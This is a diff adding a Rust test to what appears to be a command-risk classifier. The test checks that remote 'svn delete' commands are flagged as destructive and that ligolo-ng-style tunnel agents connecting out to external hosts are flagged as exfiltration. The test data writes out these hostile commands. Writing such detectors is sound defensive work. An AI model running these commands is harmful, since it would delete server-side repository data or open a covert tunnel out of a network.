@@ -290,3 +290,36 @@ fn interpreter_code_writing_a_startup_file_by_any_function_is_caught() {
         "clean",
     );
 }
+
+/// Session 15 leftovers: `svn delete URL` commits the deletion on the
+/// server at once (a working-copy path is only scheduled); a program the
+/// line runs from the project or a scratch directory, told to connect out
+/// to a host and port (ligolo-ng's `./agent -connect`), has a tunnel's
+/// shape whatever its name.
+#[test]
+fn server_side_svn_deletes_and_renamed_tunnel_agents_are_caught() {
+    each(
+        &[
+            "svn delete https://svn.example.com/repo/trunk -m 'cleanup'",
+            "svn rm svn://svn.example.com/repo/branches/release -m x",
+        ],
+        "Destructive High",
+    );
+    each(
+        &[
+            "./agent -connect 198.51.100.7:11601 -ignore-cert",
+            "../tools/agent --connect=tunnel.example.net:443",
+        ],
+        "Exfiltration Medium",
+    );
+    each(
+        &[
+            "svn delete src/old.c",
+            "svn log https://svn.example.com/repo/trunk",
+            "./server --connect 127.0.0.1:5432",
+            "./bin/app -connect localhost:6379",
+            "./configure --prefix=/usr/local",
+        ],
+        "clean",
+    );
+}
